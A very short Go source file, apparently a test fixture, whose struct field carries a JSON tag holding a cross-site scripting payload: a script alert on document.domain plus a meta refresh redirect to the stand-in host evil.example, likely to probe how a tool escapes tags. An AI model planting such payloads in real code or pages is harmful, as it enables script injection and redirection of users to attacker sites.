package main

type S struct {
	X int `json:"</title><script>alert(document.domain)</script><meta http-equiv=refresh content='0;url=https://evil.example'>"`
}

func G[T any](v T) T { return v }

func main() { _ = G(S{}) }
